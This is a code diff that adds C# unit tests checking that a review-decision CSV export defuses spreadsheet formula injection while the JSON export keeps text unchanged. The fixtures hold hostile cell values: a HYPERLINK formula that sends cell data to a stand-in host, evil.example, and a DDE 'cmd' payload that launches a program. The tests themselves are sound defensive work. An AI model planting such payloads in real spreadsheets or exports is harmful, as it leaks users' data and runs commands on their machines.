@@ -28,6 +28,35 @@ public sealed class DecisionExportTests
     }
 
     [Fact]
+    public void Csv_neutralises_text_cells_a_spreadsheet_would_run_as_formulas_and_keeps_numbers()
+    {
+        ReviewDecision[] decisions =
+        [
+            new(4, 0, "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", ReviewVerdict.Wrong, "+1", null, "2026-11-27T19:00:00.000Z"),
+            new(4, 1, "@SUM(A1)", ReviewVerdict.Fixed, "-2 is right", new FixedSpan("\tcmd|' /C calc'!A0", 0), "2026-11-27T19:00:01.000Z"),
+            new(4, 2, "q-2", ReviewVerdict.Fixed, "\rnote", new FixedSpan("-5", 12), "2026-11-27T19:00:02.000Z"),
+        ];
+
+        var csv = DecisionExport.ToCsv(decisions);
+
+        Assert.Equal(
+            "run_id,sample_index,example_id,decision,note,fixed_text,fixed_start,decided_at\r\n" +
+            "4,0,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",wrong,'+1,,,2026-11-27T19:00:00.000Z\r\n" +
+            "4,1,'@SUM(A1),fixed,'-2 is right,'\tcmd|' /C calc'!A0,0,2026-11-27T19:00:01.000Z\r\n" +
+            "4,2,q-2,fixed,\"'\rnote\",'-5,12,2026-11-27T19:00:02.000Z\r\n",
+            csv);
+    }
+
+    [Fact]
+    public void Json_keeps_formula_like_text_exactly()
+    {
+        using var json = JsonDocument.Parse(DecisionExport.ToJson([new(4, 0, "=1+1", ReviewVerdict.Wrong, "+1", null, "2026-11-27T19:00:00.000Z")]));
+
+        Assert.Equal("=1+1", json.RootElement[0].GetProperty("example_id").GetString());
+        Assert.Equal("+1", json.RootElement[0].GetProperty("note").GetString());
+    }
+
+    [Fact]
     public void Json_holds_one_object_per_decision_with_the_table_columns()
     {
         using var json = JsonDocument.Parse(DecisionExport.ToJson(Decisions));
